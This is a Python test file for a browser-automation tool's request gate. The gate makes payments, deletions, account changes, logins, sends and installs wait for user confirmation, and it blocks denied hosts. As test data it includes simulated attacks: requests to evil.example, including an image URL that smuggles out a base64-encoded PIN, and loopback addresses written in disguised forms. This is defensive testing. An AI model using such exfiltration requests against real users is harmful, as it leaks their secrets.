"""The request gate's verdicts on held requests, and how it asks and records."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from venusctl.core.errors import NeedsUser, PolicyDenied
from venusctl.drivers.base import HeldRequest
from venusctl.records.store import StepRecord
from venusctl.safety.confirm import ConfirmRequest, NonInteractiveConfirmer, Reply
from venusctl.safety.guard import Decision
from venusctl.safety.policy import load_policy
from venusctl.safety.redact import Redactor
from venusctl.safety.requests import RequestGate, RequestRules, StepApprovals, facts_of

SITE = "https://shop.example"
DEFAULT = load_policy("default")
ALLOWED = DEFAULT.with_lists(allow_domains=["shop.example"])


def post(path, body=None, content_type="application/json", method="POST", kind="Fetch",
         **more) -> HeldRequest:
    text = json.dumps(body) if isinstance(body, (dict, list)) else body
    return HeldRequest(url=SITE + path, method=method, kind=kind, body=text,
                       headers={"content-type": content_type}, **more)


def verdict(request: HeldRequest, policy=DEFAULT, redactor: Redactor | None = None):
    return RequestRules(policy, redactor).verdict(request)


@pytest.mark.parametrize(("request_", "category"), [
    (post("/checkout", "cardnumber=4111111111111111&cvc=123",
          "application/x-www-form-urlencoded", kind="Document", navigation=True), "payment"),
    (post("/step3", {"f1": "4111 1111 1111 1111"}), "payment"),
    (post("/step3", {"iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}), "payment"),
    (post("/api/transfers", {"to": "x", "value": 5}), "payment"),
    (post("/api/orders", {"items": [1]}), "payment"),
    (post("/subscription", {"plan": "pro"}, method="PUT"), "payment"),
    (post("/items/42", method="DELETE"), "delete"),
    (post("/api/items/42/delete", "confirm=1", "text/plain"), "delete"),
    (post("/graphql", {"query": "mutation { deleteAccount(id: 7) { ok } }"}), "delete"),
    (post("/graphql", {"operationName": "RemoveProject", "query": "mutation RemoveProject {x}"}),
     "delete"),
    (post("/api?action=delete", {"id": 3}), "delete"),
    (post("/newsletter/unsubscribe", {}), "delete"),
    (post("/settings", {"current_password": "a", "new_password": "b"}), "account"),
    (post("/oauth/authorize", {"client_id": "x"}), "account"),
    (post("/account/email", {"email": "x@y"}, method="PUT"), "account"),
    (post("/login", {"user": "ann", "password": "hunter2"}), "credentials"),
    (post("/api/messages", {"text": "hi"}), "send"),
    (post("/posts/12/publish", {}), "send"),
    (post("/extensions/install", {"id": "x"}), "install"),
    (HeldRequest(SITE + "/files/app-release.apk", kind="Document", navigation=True), "install"),
    (HeldRequest(SITE + "/step3?n=4111111111111111", kind="Document", navigation=True),
     "payment"),
    (post("/collect", "cc=4111111111111111", "text/plain", kind="Ping"), "payment"),
])
def test_consequential_requests_are_confirmed(request_, category):
    found = verdict(request_)
    assert found.decision is Decision.CONFIRM and found.category == category, found


@pytest.mark.parametrize("request_", [
    post("/api/items/page", {"page": 2}),
    post("/filters", "color=red&size=m", "application/x-www-form-urlencoded"),
    post("/collect", "ev=click", "text/plain", kind="Ping"),
    post("/analytics/event", {"ev": "next"}),
    post("/cart/add", {"item": 3, "qty": 1}),
    post("/likes", {"post": 12}),
    post("/drafts", {"text": "Pay the invoice tomorrow"}),
    post("/search", {"query": "delete files"}),
    post("/graphql", {"query": "query { items { id } }"}),
    post("/prefs", {"theme": "dark"}, method="PUT"),
    HeldRequest(SITE + "/search?q=buy+now&action=search", kind="Document", navigation=True),
    HeldRequest(SITE + "/orders/12", kind="XHR"),
    HeldRequest("data:text/plain,hello", kind="Other"),
    HeldRequest("https://cdn.other.example/lib.js", kind="Script"),
])
def test_benign_requests_go(request_):
    assert verdict(request_).decision is Decision.ALLOW


@pytest.mark.parametrize(("request_", "leaves"), [
    (HeldRequest("https://evil.example/x", kind="Document", navigation=True), True),
    (HeldRequest("https://evil.example/x", kind="Document", navigation=True, frame="popup"),
     True),
    (HeldRequest("https://evil.example/x", kind="Document", navigation=True, frame="frame",
                 redirected_from=SITE + "/r"), True),
    (HeldRequest("https://evil.example/x", method="POST", kind="XHR"), True),
    (HeldRequest("https://evil.example/x", method="OPTIONS", kind="XHR",
                 headers={"access-control-request-method": "PUT"}), True),
    (HeldRequest("https://evil.example/collect", method="POST", kind="Ping"), False),
    (HeldRequest("https://cdn.example/font.woff2", kind="Font"), False),
    (HeldRequest("https://www.shop.example/next", kind="Document", navigation=True), False),
])
def test_leaving_the_allowed_domains(request_, leaves):
    found = verdict(request_, ALLOWED)
    assert (found.category == "leave-domain") is leaves, found


@pytest.mark.parametrize("url", ["http://127.0.0.1:8/x", "http://[::ffff:7f00:1]:8/x",
                                 "http://[::ffff:127.0.0.1]/x"])
def test_denied_hosts_however_written(url):
    denying = replace(DEFAULT, deny_domains=("127.0.0.1",))
    assert verdict(HeldRequest(url, kind="Document", navigation=True), denying).decision \
        is Decision.DENY


def test_a_secret_may_go_only_where_it_was_typed_or_is_permitted():
    redactor = Redactor()
    redactor.add("pin", "Cnry-7Qx2-secret")
    redactor.note_typed("pin", "bank.example")
    to_bank = HeldRequest("https://bank.example/login", method="POST", kind="Fetch",
                          body="pin=Cnry-7Qx2-secret")
    assert verdict(to_bank, DEFAULT, redactor).decision is Decision.ALLOW
    leak = HeldRequest("https://evil.example/p.gif?d=Q25yeS03UXgyLXNlY3JldA", kind="Image")
    found = verdict(leak, DEFAULT, redactor)
    assert found.decision is Decision.CONFIRM and found.category == "secret"


def test_facts_read_forms_json_multipart_and_preflights():
    multipart = ("------b\r\ncontent-disposition: form-data; name=\"cardnumber\"\r\n\r\n4111\r\n"
                 "------b--")
    facts = facts_of(post("/u", multipart, "multipart/form-data; boundary=----b"))
    assert "cardnumber" in facts.fields
    assert facts_of(HeldRequest(SITE, method="OPTIONS", headers={
        "access-control-request-method": "delete"})).method == "DELETE"


class Asking:
    interactive = True

    def __init__(self, reply: Reply) -> None:
        self.reply = reply
        self.asked: list[ConfirmRequest] = []

    def confirm(self, request: ConfirmRequest) -> Reply:
        self.asked.append(request)
        return self.reply

    def ask_user(self, question: str) -> str:
        return ""

    def take_over(self) -> None:
        return None


def test_the_gate_asks_records_and_remembers():
    paying = post("/checkout", {"cardnumber": "4111111111111111"})
    yes = Asking(Reply.YES)
    gate = RequestGate(RequestRules(DEFAULT), yes, set())
    gate.step_started(2)
    assert gate.judge(paying).allow
    assert yes.asked[0].category == "payment" and yes.asked[0].step == 2
    record = StepRecord(step=2, started_at=0)
    gate.step_finished(record)
    assert record.requests[0]["reply"] == "yes" and record.requests[0]["category"] == "payment"
    assert gate.judge(post("/search", {"q": "x"})).allow and gate._log == []  # not recorded

    no = RequestGate(RequestRules(DEFAULT), Asking(Reply.NO), set())
    refused = no.judge(paying)
    assert not refused.allow and "declined" in refused.note


def test_an_approval_for_the_step_or_the_run_covers_its_requests():
    asking = Asking(Reply.NO)
    approved: set[str] = set()
    gate = RequestGate(RequestRules(DEFAULT), asking, approved)
    confirmer = StepApprovals(Asking(Reply.YES), gate)
    gate.step_started(1)
    confirmer.confirm(ConfirmRequest(1, "click", None, None, "pay", "", "payment"))
    assert gate.judge(post("/checkout", {"x": 1})).allow and asking.asked == []
    gate.step_started(2)  # the next step asks again
    assert not gate.judge(post("/checkout", {"x": 1})).allow
    approved.add("payment")  # `--allow-category payment` or an "always"
    assert gate.judge(post("/checkout", {"x": 1})).allow


def test_without_a_terminal_the_request_stays_pending_in_the_record():
    gate = RequestGate(RequestRules(DEFAULT), NonInteractiveConfirmer(), set())
    gate.step_started(3)
    with pytest.raises(NeedsUser):
        gate.judge(post("/api/messages", {"text": "hi"}))
    record = StepRecord(step=3, started_at=0)
    gate.step_finished(record)
    assert record.requests[0]["reply"] == "unanswered"
    assert record.requests[0]["url"] == SITE + "/api/messages"


def test_denied_navigations_stop_the_run_and_denied_images_are_dropped():
    policy = replace(DEFAULT, deny_domains=("ads.example",))
    gate = RequestGate(RequestRules(policy), NonInteractiveConfirmer(), set())
    assert not gate.judge(HeldRequest("https://ads.example/p.gif", kind="Image")).allow
    with pytest.raises(PolicyDenied):
        gate.judge(HeldRequest("https://ads.example/", kind="Document", navigation=True))


def test_confirmation_turned_off_lets_requests_go_but_not_denials():
    gate = RequestGate(RequestRules(DEFAULT), NonInteractiveConfirmer(), set(), "never")
    assert gate.judge(post("/checkout", {"cardnumber": "4111111111111111"})).allow
